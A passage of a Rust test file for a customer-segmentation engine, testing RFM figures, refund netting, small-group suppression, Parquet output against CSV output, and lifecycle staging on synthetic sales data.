    assert!(!md.contains("500.00"), "{md}");
}

#[test]
fn a_small_best_segment_is_not_diluted_into_the_whole_base() {
    // 6 big regular spenders (13 % of the purchasers) and 40 one-time small buyers.
    let mut lines = Vec::new();
    for c in 0..6 {
        for d in 0..6 {
            let day = format!("2024-06-{:02}", 2 + 4 * d);
            lines.push(l(&format!("w{c}-{d}"), &format!("w{c}"), &day, "p1", 2.0, 500.0));
        }
    }
    for c in 0..40 {
        let day = format!("2024-{:02}-{:02}", 1 + c % 6, 1 + c % 27);
        lines.push(l(
            &format!("r{c}"),
            &format!("r{c:02}"),
            &day,
            "p2",
            1.0,
            20.0 + c as f64,
        ));
    }
    let dir = tempfile::tempdir().unwrap();
    let sales = write_sales(dir.path(), "s.parquet", "s1", &lines);
    let out = dir.path().join("out");
    run_k2(sales, &out);
    let icp = read_json(&out.join("ideal_customer_profile.json"));
    // Under the 20 % asked for, but the next segment would make it everyone.
    assert_eq!(icp["ideal"]["customers"], 6, "{:#}", icp["ideal_rule"]);
    let ranking = icp["ideal_rule"]["rule"]["ranking"].as_array().unwrap();
    assert_eq!(ranking.iter().filter(|s| s["ideal"] == true).count(), 1);
    // The sentence says why the group is short of the 20 %.
    let description = icp["ideal_rule"]["description"].as_str().unwrap();
    assert!(
        description.ends_with(&format!(
            ": {}; the next, {}, would take the group past half, so it stops at 13%.",
            ranking[0]["segment_name"].as_str().unwrap(),
            ranking[1]["segment_name"].as_str().unwrap()
        )),
        "{description}"
    );
}

#[test]
fn orders_refunded_or_cancelled_by_status_net_to_nothing() {
    // Shopify-style: the refunded or cancelled order is listed once, positive, with its status.
    let mut lines = golden_lines();
    lines.push(l("k1", "k00", "2024-06-01", "p1", 1.0, 100.0));
    lines.push(l("k2", "k00", "2024-06-10", "p1", 1.0, 30.0).with_status("refunded"));
    lines.push(l("k3", "k50", "2024-06-12", "p1", 1.0, 30.0).with_status("cancelled"));
    // A payment abandoned at the gateway: no money came.
    lines.push(l("k4", "k51", "2024-06-13", "p1", 1.0, 45.0).with_status("unpaid"));
    let dir = tempfile::tempdir().unwrap();
    let sales = write_sales(dir.path(), "s.parquet", "s1", &lines);
    let out = dir.path().join("out");
    let run = run(
        &inputs(vec![sales], vec![], None),
        &checked("2024-06-30", Some(2)),
        &out,
    )
    .unwrap();
    let customers = read_csv(&out.join("customers.csv"));
    let k00 = customers.iter().find(|r| r["customer_id"] == "k00").unwrap();
    // Bought 130, returned 30: net 100 over two orders.
    assert_eq!(
        (k00["monetary"].as_str(), k00["frequency"].as_str()),
        ("100.00", "2")
    );
    assert_eq!(k00["return_rate"], "0.231");
    // A cancelled or unpaid order never counted: k50 and k51 are no customers at all, let
    // alone lapsed ones.
    assert!(
        customers
            .iter()
            .all(|r| r["customer_id"] != "k50" && r["customer_id"] != "k51")
    );
    let inputs = &run.manifest["inputs"];
    assert_eq!(inputs["cancelled_rows"], 2);
    assert_eq!(inputs["return_rows"], 1);
}

/// WooCommerce Analytics lists a refunded order with its status and the refund as a negative
/// row of its own: the money went back once.
#[test]
fn an_order_refunded_by_status_and_by_a_refund_row_went_back_once() {
    let mut lines = golden_lines();
    lines.push(l("w1", "k00", "2024-06-01", "p1", 1.0, 100.0));
    lines.push(l("w2", "k00", "2024-06-10", "p1", 1.0, 20.0).with_status("refunded"));
    lines.push(l("w2", "k00", "2024-06-12", "p1", -1.0, -20.0).with_status("refunded"));
    let dir = tempfile::tempdir().unwrap();
    let sales = write_sales(dir.path(), "s.parquet", "s1", &lines);
    let out = dir.path().join("out");
    let run = run(
        &inputs(vec![sales], vec![], None),
        &checked("2024-06-30", Some(2)),
        &out,
    )
    .unwrap();
    let rows = by_id(read_csv(&out.join("customers.csv")));
    assert_eq!(rows["k00"]["monetary"], "100.00", "120 bought, 20 returned once");
    assert_eq!(rows["k00"]["return_rate"], "0.167");
    // The golden customers' 1,350 net, plus k00's 100.
    let base: f64 = golden_lines()
        .iter()
        .filter(|l| !l.ts.starts_with("2024-07"))
        .map(|l| l.amount)
        .sum();
    let total = run.manifest["inputs"]["net_revenue"].as_f64().unwrap_or(f64::NAN);
    assert!(
        (total - (base + 100.0)).abs() < 1e-6,
        "{total} vs {}",
        base + 100.0
    );
}

/// The profile's order values are what the customer kept: a refunded order sets no threshold,
/// a return under the order's own id comes off it; a return under its own id is no order's.
#[test]
fn order_value_thresholds_leave_out_what_came_back() {
    // An order refunded whole by its status is left out with an order number or without one
    // (a line without one is an order of its own, and its refund that order's).
    for big in ["big", ""] {
        order_value_thresholds_leave_out_what_came_back_as(big);
    }
}

fn order_value_thresholds_leave_out_what_came_back_as(big: &str) {
    let lines = vec![
        l(big, "r1", "2024-06-01", "p1", 1.0, 5000.0).with_status("refunded"),
        l("a1", "r1", "2024-06-02", "p1", 1.0, 100.0),
        l("b1", "r2", "2024-06-03", "p1", 1.0, 100.0),
        l("b1", "r2", "2024-06-03", "p2", 1.0, 100.0),
        l("b1", "r2", "2024-06-08", "p2", -1.0, -50.0),
        l("x1", "x1", "2024-06-04", "p1", 1.0, 80.0),
        l("x2", "x2", "2024-06-04", "p1", 1.0, 90.0),
        l("x3", "x3", "2024-06-04", "p1", 1.0, 110.0),
        l("x4", "x4", "2024-06-04", "p1", 1.0, 120.0),
        l("C7", "x4", "2024-06-09", "p1", -1.0, -120.0),
    ];
    // Everyone is ideal: the smallest and largest order are shown beside a group of at least
    // twice the minimum group size only.
    let (_dir, out, icp) = run_everyone_ideal(&lines, 1);
    let base = |f: &str| icp["ideal"]["figures"][f]["base"].as_f64().unwrap();
    // Kept: 100 (r1), 150 (r2), 80, 90, 110, 120 (x4's return is under an id of its own).
    assert_eq!(
        base("max_order_value"),
        150.0,
        "{big:?}: {:#}",
        icp["ideal"]["figures"]
    );
    assert_eq!(base("min_order_value"), 80.0);
    assert_eq!(base("median_order_value"), 105.0);
    // The customers' own figures are unchanged: the refund still counts as bought and returned.
    let rows = by_id(read_csv(&out.join("customers.csv")));
    assert_eq!(rows["r1"]["frequency"], "2");
    assert_eq!(rows["r1"]["monetary"], "100.00");
    assert_eq!(rows["r2"]["monetary"], "150.00");
}

/// The profile's smallest and largest order are no one customer's: one customer's single order
/// of 5,000 (or of 1) would be published to the cent. They are the largest order at least
/// `min_group_size` customers reach (per customer their largest, the min_group_size-th from the
/// top), and the smallest at least that many go down to.
#[test]
fn order_value_extremes_are_reached_by_at_least_the_minimum_group() {
    let mut lines = Vec::new();
    // Per customer: largest and smallest order.
    let orders: [(&str, &[f64]); 12] = [
        ("c01", &[5000.0, 40.0]),
        ("c02", &[300.0, 1.0]),
        ("c03", &[250.0, 30.0]),
        ("c04", &[200.0, 35.0]),
        ("c05", &[180.0]),
        ("c06", &[160.0, 50.0]),
        ("c07", &[150.0]),
        ("c08", &[140.0]),
        ("c09", &[130.0, 45.0]),
        ("c10", &[120.0]),
        ("c11", &[110.0]),
        ("c12", &[100.0]),
    ];
    for (c, values) in orders {
        for (k, v) in values.iter().enumerate() {
            lines.push(l(
                &format!("{c}-{k}"),
                c,
                &format!("2024-06-{:02}", 10 + k),
                "p1",
                1.0,
                *v,
            ));
        }
    }
    let (_dir, out, icp) = run_everyone_ideal(&lines, 3);
    let f = &icp["ideal"]["figures"];
    assert!(f.is_object(), "the ideal group is shown: {icp:#}");
    // Largest per customer: 5000, 300, 250, … → the third is 250. Smallest per customer:
    // 1, 30, 35, … → the third is 35.
    assert_eq!(f["max_order_value"]["base"], 250.0, "{f:#}");
    assert_eq!(f["min_order_value"]["base"], 35.0, "{f:#}");
    let md = std::fs::read_to_string(out.join("ideal_customer_profile.md")).unwrap();
    assert!(!md.contains("5,000.00") && !md.contains("| 1.00 |"), "{md}");
    assert!(
        md.contains("| Largest order (reached by at least 3 customers) | "),
        "{md}"
    );
    assert!(
        md.contains("| Smallest order (at least 3 customers go this low) | "),
        "{md}"
    );
    for group in [&icp["ideal"], &icp["negative"]["profile"]] {
        for side in ["group", "base"] {
            for k in ["min_order_value", "max_order_value"] {
                let v = &group["figures"][k][side];
                assert!(v != 5000.0 && v != 1.0, "{k} {side}: {v}");
            }
        }
    }
}

/// Three plainly separate groups of 8, 5 and 3 customers, each group alike in R, F and M.
fn groups_of_8_5_and_3() -> Vec<Line> {
    let mut lines = Vec::new();
    for c in 0..8 {
        for d in 0..5 {
            let (o, cu) = (format!("a{c}-{d}"), format!("a{c}"));
            lines.push(l(&o, &cu, &format!("2024-06-{:02}", 10 + d), "p1", 1.0, 40.0));
        }
    }
    for c in 0..5 {
        lines.push(l(
            &format!("b{c}"),
            &format!("b{c}"),
            "2023-07-01",
            "p1",
            1.0,
            10.0,
        ));
    }
    for c in 0..3 {
        for day in ["2024-03-01", "2024-03-15"] {
            lines.push(l(
                &format!("c{c}-{day}"),
                &format!("c{c}"),
                day,
                "p2",
                1.0,
                1000.0,
            ));
        }
    }
    lines
}

#[test]
fn one_small_group_takes_the_next_smallest_with_it() {
    let dir = tempfile::tempdir().unwrap();
    let sales = write_sales(dir.path(), "s.parquet", "s1", &groups_of_8_5_and_3());
    let mut p = SegmentParams::new(date("2024-06-30"));
    p.k = Some(3);
    p.min_group_size = 4;
    let out = dir.path().join("out");
    run(&inputs(vec![sales], vec![], None), &p.check().unwrap(), &out).unwrap();
    let segs = read_json(&out.join("segments.json"));
    let csv = read_csv(&out.join("segments.csv"));
    let mut seen = Vec::new();
    for (s, row) in segs["segments"].as_array().unwrap().iter().zip(&csv) {
        let hidden = s["suppressed"] == true;
        seen.push((s["customers"].as_u64().unwrap(), hidden));
        assert_eq!(row["suppressed"] == "true", hidden);
        assert_eq!(s["revenue_share"].is_null(), hidden);
        assert_eq!(s["profile"]["return_rate"].is_null(), hidden);
        assert_eq!(
            row["revenue_share"].is_empty() && row["new_share"].is_empty(),
            hidden
        );
        if s["customers"] == 5 {
            assert!(
                s["description"].as_str().unwrap().starts_with("Figures withheld"),
                "{s}"
            );
        }
    }
    seen.sort();
    // The 3 under the minimum, and the 5: with its figures, the 3's would follow from the base's.
    assert_eq!(seen, [(3, true), (5, true), (8, false)]);

    // The R × F grid by the same rule: one cell per group.
    let matrix = read_csv(&out.join("rfm_matrix.csv"));
    let mut cells: Vec<(usize, bool)> = matrix
        .iter()
        .map(|r| (r["customers"].parse().unwrap(), r["avg_monetary"].is_empty()))
        .filter(|c| c.0 > 0)
        .collect();
    cells.sort();
    assert_eq!(cells, [(3, true), (5, true), (8, false)]);
}

/// Scale check, run by hand in release mode:
/// `cargo test --release -p segflow-engine --lib segment::tests::scale -- --ignored --nocapture`
/// Generates ~200 k customers and ~5 M lines over 12 monthly files from two overlapping sources.
#[test]
#[ignore]
fn scale_200k_customers() {
    use rand_xoshiro::Xoshiro256Plus;
    use rand_xoshiro::rand_core::{RngCore, SeedableRng};
    let dir = tempfile::tempdir().unwrap();
    let mut rng = Xoshiro256Plus::seed_from_u64(7);
    let start = micros("2023-07-01 00:00");
    let day = 86_400_000_000i64;
    let mut files = Vec::new();
    let schema_lines = |n: usize| Vec::<Line>::with_capacity(n);
    // Per month, one file per source; source b re-exports the first week of every month.
    let t0 = std::time::Instant::now();
    let mut rows_total = 0usize;
    for month in 0..12i64 {
        let mut a = schema_lines(500_000);
        let mut b = schema_lines(100_000);
        for c in 0..200_000u64 {
            // Customer c buys in this month with a probability depending on its "type".
            let kind = c % 5;
            let p = [90, 40, 15, 5, 60][kind as usize];
            if rng.next_u64() % 100 >= p {
                continue;
            }
            let orders = 1 + rng.next_u64() % [3, 2, 1, 1, 2][kind as usize];
            for o in 0..orders {
                let ts = start + month * 30 * day + (rng.next_u64() % (30 * day as u64)) as i64;
                let order = format!("{c}-{month}-{o}");
                let cust = format!("C{c:06}");
                let lines = 1 + rng.next_u64() % 4;
                for li in 0..lines {
                    let product = format!("P{}", rng.next_u64() % 5000);
                    let qty = 1.0 + (rng.next_u64() % 3) as f64;
                    let amount =
                        qty * (5.0 + (rng.next_u64() % [200, 80, 40, 20, 500][kind as usize]) as f64);
                    let ts_s = chrono::DateTime::from_timestamp_micros(ts)
                        .unwrap()
                        .format("%Y-%m-%d %H:%M")
                        .to_string();
                    let mut line = l(&order, &cust, &ts_s, &product, qty, amount);
                    if li == 0 && rng.next_u64() % 50 == 0 {
                        line.qty = -qty;
                        line.amount = -amount;
                        line.order = format!("C{order}");
                    }
                    if ts < start + month * 30 * day + 7 * day {
                        b.push(line.clone());
                    }
                    a.push(line);
                }
            }
        }
        rows_total += a.len() + b.len();
        files.push(write_sales(
            dir.path(),
            &format!("sales/order_month={month:02}/a.parquet"),
            "a",
            &a,
        ));
        files.push(write_sales(
            dir.path(),
            &format!("sales/order_month={month:02}/b.parquet"),
            "b",
            &b,
        ));
    }
    let peak = || {
        std::fs::read_to_string("/proc/self/status")
            .ok()
            .and_then(|s| s.lines().find(|l| l.starts_with("VmHWM")).map(str::to_string))
    };
    eprintln!("generated {rows_total} rows in {:?}; {:?}", t0.elapsed(), peak());
    // CPU seconds of this process (all threads): less distorted than wall time on a busy machine.
    let cpu = || {
        let stat = std::fs::read_to_string("/proc/self/stat").unwrap_or_default();
        let f: Vec<&str> = stat.rsplit(')').next().unwrap_or("").split_whitespace().collect();
        let ticks = |i: usize| f.get(i).and_then(|v| v.parse::<f64>().ok()).unwrap_or(0.0);
        (ticks(11) + ticks(12)) / 100.0
    };
    let p = checked("2024-06-30", None);
    {
        let (c0, w0) = (cpu(), std::time::Instant::now());
        let mut ids = interner::Interner::default();
        let mut places = interner::Interner::default();
        let clock = features::Clock {
            as_of: p.as_of,
            tz: p.timezone,
            cutoff: end_of_day(p.as_of, p.timezone).unwrap(),
        };
        let data = sales::read_sales(
            &files,
            clock.cutoff,
            &BTreeMap::new(),
            &Default::default(),
            &mut ids,
            &mut places,
        )
        .unwrap();
        eprintln!(
            "phase read_sales: cpu {:.1}s wall {:?}; {:?}",
            cpu() - c0,
            w0.elapsed(),
            peak()
        );
        let (c0, w0) = (cpu(), std::time::Instant::now());
        let mut customers = features::build_customers(&data, &[], &ids, &places, &clock);
        features::score_rfm(&mut customers, &p.rfm_rules);
        features::assign_stages(&mut customers, &p);
        eprintln!("phase features: cpu {:.1}s wall {:?}", cpu() - c0, w0.elapsed());
        let (c0, w0) = (cpu(), std::time::Instant::now());
        let rows: Vec<_> = customers
            .iter()
            .filter_map(|c| c.behaviour.as_ref())
            .map(cluster::transform)
            .collect();
        let keys: Vec<(u64, &str)> = customers
            .iter()
            .filter(|c| c.behaviour.is_some())
            .map(|c| (hash::stable_hash(ids.name(c.idx)), ids.name(c.idx)))
            .collect();
        let cl = cluster::cluster(&rows, &keys, &p, &Previous::None).unwrap();
        eprintln!(
            "phase cluster (auto k = {}): cpu {:.1}s wall {:?}",
            cl.k,
            cpu() - c0,
            w0.elapsed()
        );
    }

    let t1 = std::time::Instant::now();
    let r = run(
        &inputs(files.clone(), vec![], None),
        &checked("2024-06-30", None),
        &dir.path().join("out"),
    )
    .unwrap();
    eprintln!("run (auto k) in {:?}; {:?}", t1.elapsed(), peak());
    eprintln!("{}", serde_json::to_string_pretty(&r.manifest["inputs"]).unwrap());
    eprintln!(
        "{}",
        serde_json::to_string_pretty(&r.manifest["clustering"]).unwrap()
    );
    let t2 = std::time::Instant::now();
    let r2 = run(
        &inputs(files, vec![], Some(r.state.clone())),
        &checked("2024-06-30", None),
        &dir.path().join("out2"),
    )
    .unwrap();
    eprintln!("run (previous state) in {:?}, k {}", t2.elapsed(), r2.state.k);
}

#[test]
fn lines_of_one_order_arriving_apart_make_one_order() {
    let dir = tempfile::tempdir().unwrap();
    let mut lines = vec![
        l("o1", "c1", "2024-06-01", "p1", 1.0, 10.0),
        l("o2", "c1", "2024-06-02", "p1", 1.0, 5.0),
        l("o1", "c1", "2024-06-01", "p2", 1.0, 20.0),
        l("o3", "c1", "2024-06-03", "p1", 1.0, 1.0),
        l("o3", "c1", "2024-06-03", "p1", 1.0, 1.0),
        // Same order id under another customer is another order.
        l("o1", "c2", "2024-06-01", "p1", 1.0, 7.0),
    ];
    lines.extend((3..6).map(|i| l(&format!("x{i}"), &format!("c{i}"), "2024-06-01", "p1", 1.0, 10.0)));
    let f1 = write_sales(dir.path(), "a/s.parquet", "s1", &lines);
    // The rest of order o2 comes in another file of the same upload.
    let f2 = write_sales(
        dir.path(),
        "b/s.parquet",
        "s1",
        &[l("o2", "c1", "2024-06-02", "p3", 2.0, 8.0)],
    );
    let out = dir.path().join("out");
    run(
        &inputs(vec![f2, f1], vec![], None),
        &checked("2024-06-30", Some(2)),
        &out,
    )
    .unwrap();
    let rows = by_id(read_csv(&out.join("customers.csv")));
    let c1 = &rows["c1"];
    assert_eq!(c1["frequency"], "3");
    assert_eq!(c1["monetary"], "45.00");
    assert_eq!(
        c1["multi_item_share"], "0.667",
        "o1 and o2 have two products, o3 one product twice"
    );
    assert_eq!(c1["items_per_order"], "2.33");
    assert_eq!(c1["distinct_products"], "3");
    assert_eq!(rows["c2"]["monetary"], "7.00");
}

#[test]
fn stage_discriminants_index_stage_all() {
    // The manifest counts stages in an array indexed by `stage as usize`.
    for (i, s) in Stage::ALL.iter().enumerate() {
        assert_eq!(*s as usize, i, "{s:?}");
    }
}

/// A Parquet output: its schema and all its rows in one batch.
pub(super) fn read_parquet(path: &Path) -> RecordBatch {
    let builder = ParquetRecordBatchReaderBuilder::try_new(std::fs::File::open(path).unwrap()).unwrap();
    let schema = builder.schema().clone();
    let reader = builder.build().unwrap();
    let batches: Vec<RecordBatch> = reader.collect::<Result<_, _>>().unwrap();
    arrow::compute::concat_batches(&schema, &batches).unwrap()
}

/// Every cell of `batch` against the same cell of the CSV: the columns are the CSV's, in order; an
/// empty cell is a null; numbers are equal to the value the CSV's digits parse to, except that
/// floats of the columns `rounded_in_csv_only` need only print as the CSV does.
fn assert_parquet_matches_csv(batch: &RecordBatch, csv: &Path, rounded_in_csv_only: &[&str]) {
    let bytes = std::fs::read(csv).unwrap();
    let text = std::str::from_utf8(&bytes)
        .unwrap()
        .strip_prefix('\u{feff}')
        .unwrap();
    let mut r = csv::Reader::from_reader(text.as_bytes());
    let headers: Vec<String> = r.headers().unwrap().iter().map(String::from).collect();
    let names: Vec<&String> = batch.schema_ref().fields().iter().map(|f| f.name()).collect();
    assert_eq!(
        names,
        headers.iter().collect::<Vec<_>>(),
        "columns of {}",
        csv.display()
    );
    let records: Vec<csv::StringRecord> = r.records().map(Result::unwrap).collect();
    assert_eq!(records.len(), batch.num_rows(), "rows of {}", csv.display());
    for (c, name) in headers.iter().enumerate() {
        let col = batch.column(c);
        for (i, rec) in records.iter().enumerate() {
            let cell = &rec[c];
            let at = format!("{name}, row {i}: CSV {cell:?}");
            assert_eq!(col.is_null(i), cell.is_empty(), "{at}");
            if cell.is_empty() {
                continue;
            }
            match col.data_type() {
                DataType::Utf8 => assert_eq!(
                    col.as_any().downcast_ref::<StringArray>().unwrap().value(i),
                    cell,
                    "{at}"
                ),
                DataType::Int32 => assert_eq!(
                    i64::from(col.as_any().downcast_ref::<Int32Array>().unwrap().value(i)),
                    cell.parse::<i64>().unwrap(),
                    "{at}"
                ),
                DataType::Int64 => assert_eq!(
                    col.as_any().downcast_ref::<Int64Array>().unwrap().value(i),
                    cell.parse::<i64>().unwrap(),
                    "{at}"
                ),
                DataType::Float64 => {
                    let v = col.as_any().downcast_ref::<Float64Array>().unwrap().value(i);
                    if rounded_in_csv_only.contains(&name.as_str()) {
                        let decimals = cell.split_once('.').map_or(0, |(_, d)| d.len());
                        assert_eq!(output::fixed(v, decimals), cell, "{at}: Parquet {v:e}");
                    } else {
                        assert_eq!(
                            v.to_bits(),
                            cell.parse::<f64>().unwrap().to_bits(),
                            "{at}: Parquet {v:e}"
                        );
                    }
                }
                DataType::Boolean => assert_eq!(
                    col.as_any()
                        .downcast_ref::<BooleanArray>()
                        .unwrap()
                        .value(i)
                        .to_string(),
                    cell,
                    "{at}"
                ),
                DataType::Date32 => assert_eq!(
                    features::from_epoch_days(col.as_any().downcast_ref::<Date32Array>().unwrap().value(i))
                        .to_string(),
                    cell,
                    "{at}"
                ),
                other => panic!("{at}: unexpected type {other}"),
            }
        }
    }
}

/// Athena reads the summary from segments.parquet: segments.csv's columns and values, with nulls
/// where the CSV leaves withheld figures empty (Athena's CSV reader fails on an empty number).
#[test]
fn segments_parquet_is_the_summary_csv_with_types_and_nulls() {
    let dir = tempfile::tempdir().unwrap();
    let sales = write_sales(dir.path(), "s.parquet", "s1", &groups_of_8_5_and_3());
    let mut p = SegmentParams::new(date("2024-06-30"));
    p.k = Some(3);
    p.min_group_size = 4;
    let out = dir.path().join("out");
    let r = run(&inputs(vec![sales], vec![], None), &p.check().unwrap(), &out).unwrap();
    assert!(r.files.iter().any(|f| f == "segments.parquet"), "{:?}", r.files);
    let batch = read_parquet(&out.join("segments.parquet"));
    let types: Vec<(&str, &DataType)> = batch
        .schema_ref()
        .fields()
        .iter()
        .map(|f| (f.name().as_str(), f.data_type()))
        .collect();
    let float = &DataType::Float64;
    assert_eq!(
        types,
        [
            ("segment_id", &DataType::Int32),
            ("segment_name", &DataType::Utf8),
            ("description", &DataType::Utf8),
            ("customers", &DataType::Int64),
            ("share", float),
            ("revenue_share", float),
            ("suppressed", &DataType::Boolean),
            ("median_recency_days", float),
            ("median_frequency", float),
            ("median_monetary", float),
            ("median_avg_order_value", float),
            ("return_rate", float),
            ("multi_item_share", float),
            ("new_share", float),
            ("top_country", &DataType::Utf8),
            ("top_city", &DataType::Utf8),
            ("top_rfm_group", &DataType::Utf8),
        ]
    );
    // Two of three segments withheld (3 under the minimum, 5 with it): their figures are nulls.
    let suppressed = batch
        .column_by_name("suppressed")
        .unwrap()
        .as_any()
        .downcast_ref::<BooleanArray>()
        .unwrap();
    assert_eq!(suppressed.true_count(), 2);
    for c in ["revenue_share", "median_monetary", "new_share", "top_city"] {
        assert_eq!(batch.column_by_name(c).unwrap().null_count(), 2, "{c}");
    }
    assert_parquet_matches_csv(&batch, &out.join("segments.csv"), &[]);
}

/// Money in customers.parquet is rounded to the cent as customers.csv prints it: a net value of
/// 0.1 + 0.2 − 0.3 is 0, not float noise, and 10 over 3 orders is 3.33 in both files.
#[test]
fn customers_parquet_money_agrees_with_the_csv() {
    assert_ne!(0.1 + 0.2 - 0.3, 0.0, "the noise this test is about");
    let dir = tempfile::tempdir().unwrap();
    let mut lines = golden_lines();
    lines.extend([
        l("z1", "c20", "2024-06-01", "p1", 1.0, 0.1),
        l("z2", "c20", "2024-06-02", "p1", 1.0, 0.2),
        l("z3", "c20", "2024-06-03", "p1", -1.0, -0.3),
        l("y1", "c21", "2024-06-01", "p1", 1.0, 3.0),
        l("y2", "c21", "2024-06-02", "p1", 1.0, 3.0),
        l("y3", "c21", "2024-06-03", "p1", 1.0, 4.0),
    ]);
    let sales = write_sales(dir.path(), "s.parquet", "s1", &lines);
    let out = dir.path().join("out");
    run_k2(sales, &out);
    let batch = read_parquet(&out.join("customers.parquet"));
    let ids = batch.column(0).as_any().downcast_ref::<StringArray>().unwrap();
    let money = |col: &str, id: &str| {
        let i = (0..ids.len()).find(|&i| ids.value(i) == id).unwrap();
        let a = batch.column_by_name(col).unwrap();
        a.as_any().downcast_ref::<Float64Array>().unwrap().value(i)
    };
    assert_eq!(
        money("monetary", "c20").to_bits(),
        0.0f64.to_bits(),
        "no noise, no −0"
    );
    assert_eq!(money("avg_order_value", "c21"), 3.33);
    assert_eq!(money("monetary", "c21"), 10.0);
    let csv = by_id(read_csv(&out.join("customers.csv")));
    assert_eq!(
        (
            csv["c20"]["monetary"].as_str(),
            csv["c21"]["avg_order_value"].as_str()
        ),
        ("0.00", "3.33")
    );
    // And every cell of every row, in the same order (ids not pseudonymised); figures other
    // than money keep their precision in the Parquet.
    assert_parquet_matches_csv(
        &batch,
        &out.join("customers.csv"),
        &[
            "recency_days",
            "tenure_days",
            "days_between_orders",
            "items_per_order",
            "multi_item_share",
            "return_rate",
            "ideal_fit",
        ],
    );
}

/// A customer is at risk when the time since the last order is over 1.5 × their usual gap, the
/// median gap: four orders three days apart and then one after a two-month pause make a
/// three-day rhythm, not the sixteen-day mean that kept them "active" ten days after it stopped.
#[test]
fn at_risk_compares_with_the_median_gap() {
    let dir = tempfile::tempdir().unwrap();
    let mut lines: Vec<Line> = [
        "2024-04-01",
        "2024-04-04",
        "2024-04-07",
        "2024-04-10",
        "2024-04-13",
        "2024-06-20",
    ]
    .iter()
    .enumerate()
    .map(|(i, d)| l(&format!("g{i}"), "g1", d, "p1", 1.0, 10.0))
    .collect();
    for i in 0..5 {
        lines.push(l(
            &format!("o{i}"),
            &format!("c{i}"),
            "2024-04-02",
            "p1",
            1.0,
            10.0,
        ));
        lines.push(l(
            &format!("q{i}"),
            &format!("c{i}"),
            "2024-06-25",
            "p1",
            1.0,
            10.0,
        ));
    }
    let sales = write_sales(dir.path(), "s.parquet", "s1", &lines);
    let out = dir.path().join("out");
    run_k2(sales, &out);
    let rows = by_id(read_csv(&out.join("customers.csv")));
    assert_eq!(
        rows["g1"]["days_between_orders"], "16.0",
        "the mean, as documented"
    );
    assert_eq!(rows["g1"]["lifecycle_stage"], "at_risk");
    assert_eq!(
        rows["c0"]["lifecycle_stage"], "active",
        "one 84-day gap, 5.5 days ago"
    );
}

/// Exports that name products but have no product id (SKU) column: the name is the product, for
/// distinct products and for telling multi-item orders, whether the ids are missing from the
/// whole export (ingested CSV: the curated files keep no statistics on product ids) or from some
/// lines of a file whose statistics say so.
#[test]
fn products_without_ids_are_told_apart_by_name() {
    let dir = tempfile::tempdir().unwrap();
    let csv = dir.path().join("orders.csv");
    let mut text = String::from("Order,Customer,Date,Product,Qty,Price\n");
    // c1: o1 holds two products, o2 one product on two lines, o3 a third product.
    for row in [
        "o1,c1,2024-06-01,Green Tea,1,10",
        "o1,c1,2024-06-01,Black Tea,2,12",
        "o2,c1,2024-06-05,Green Tea,1,10",
        "o2,c1,2024-06-05,Green Tea,1,10",
        "o3,c1,2024-06-09,Honey,1,30",
    ] {
        text.push_str(row);
        text.push('\n');
    }
    for i in 2..8 {
        text.push_str(&format!("x{i},c{i},2024-06-0{i},Honey,1,{}\n", 10 * i));
    }
    std::fs::write(&csv, text).unwrap();
    let src = crate::ingest::SourceRef {
        bucket: None,
        key: "incoming/sales/orders.csv".into(),
        etag: Some("e".into()),
        version_id: None,
        size: std::fs::metadata(&csv).unwrap().len(),
    };
    let staging = dir.path().join("staging");
    std::fs::create_dir_all(&staging).unwrap();
    let opts = crate::ingest::IngestOptions::default();
    let ingested = crate::ingest::ingest_file(&csv, src, &opts, &staging).unwrap();
    let curated: Vec<PathBuf> = ingested
        .files
        .iter()
        .filter(|f| f.key.starts_with("curated/sales/"))
        .map(|f| f.path.clone())
        .collect();
    // As the reviewer's export: names and no ids, and (curated) no statistics on the ids.
    let file = std::fs::File::open(&curated[0]).unwrap();
    let builder = ParquetRecordBatchReaderBuilder::try_new(file).unwrap();
    let meta = builder.metadata().clone();
    let batch = builder.build().unwrap().next().unwrap().unwrap();
    assert_eq!(
        batch.column_by_name("product_id").unwrap().null_count(),
        batch.num_rows()
    );
    assert_eq!(batch.column_by_name("product_name").unwrap().null_count(), 0);
    let ids = meta
        .row_group(0)
        .columns()
        .iter()
        .find(|c| c.column_path().string() == "product_id");
    assert!(ids.unwrap().statistics().is_none());
    let out = dir.path().join("out");
    run(
        &inputs(curated, vec![], None),
        &checked("2024-06-30", Some(2)),
        &out,
    )
    .unwrap();
    let rows = by_id(read_csv(&out.join("customers.csv")));
    assert_eq!(rows["c1"]["distinct_products"], "3");
    assert_eq!(
        rows["c1"]["multi_item_share"], "0.333",
        "o1 has two products; o2 one product twice; o3 one"
    );
    assert_eq!(rows["c2"]["distinct_products"], "1");

    // Ids on some lines only, in a file with statistics: a line without an id is its name's.
    let lines = vec![
        l("o1", "c1", "2024-06-01", "SKU-1", 1.0, 10.0),
        l("o1", "c1", "2024-06-01", "", 1.0, 10.0).named("Gift card"),
        l("o2", "c1", "2024-06-05", "", 1.0, 10.0).named("Gift card"),
        l("o2", "c1", "2024-06-05", "", 1.0, 10.0).named("Gift card"),
        // A name spelt like another product's id is still another product.
        l("o3", "c1", "2024-06-09", "", 1.0, 10.0).named("SKU-1"),
        l("o4", "c2", "2024-06-09", "SKU-1", 1.0, 10.0),
        l("o5", "c3", "2024-06-09", "SKU-1", 1.0, 10.0),
        l("o6", "c4", "2024-06-09", "SKU-1", 1.0, 10.0),
    ];
    let f = write_sales(dir.path(), "mixed/s.parquet", "s1", &lines);
    let out = dir.path().join("out2");
    run(
        &inputs(vec![f], vec![], None),
        &checked("2024-06-30", Some(2)),
        &out,
    )
    .unwrap();
    let rows = by_id(read_csv(&out.join("customers.csv")));
    assert_eq!(rows["c1"]["distinct_products"], "3");
    assert_eq!(
        rows["c1"]["multi_item_share"], "0.333",
        "only o1 has two products"
    );

    // Lines with neither an id nor a name: each a product of its own, as for multi-item orders.
    let lines = vec![
        l("o1", "c1", "2024-06-01", "", 1.0, 10.0),
        l("o1", "c1", "2024-06-01", "", 2.0, 20.0),
        l("o2", "c1", "2024-06-05", "", 1.0, 10.0),
        l("o3", "c2", "2024-06-09", "SKU-1", 1.0, 10.0),
        l("o4", "c2", "2024-06-10", "", 1.0, 10.0),
        l("o5", "c3", "2024-06-09", "SKU-1", 1.0, 10.0),
        l("o6", "c4", "2024-06-09", "SKU-1", 1.0, 10.0),
    ];
    let f = write_sales(dir.path(), "bare/s.parquet", "s1", &lines);
    let out = dir.path().join("out3");
    run(
        &inputs(vec![f], vec![], None),
        &checked("2024-06-30", Some(2)),
        &out,
    )
    .unwrap();
    let rows = by_id(read_csv(&out.join("customers.csv")));
    assert_eq!(rows["c1"]["distinct_products"], "3");
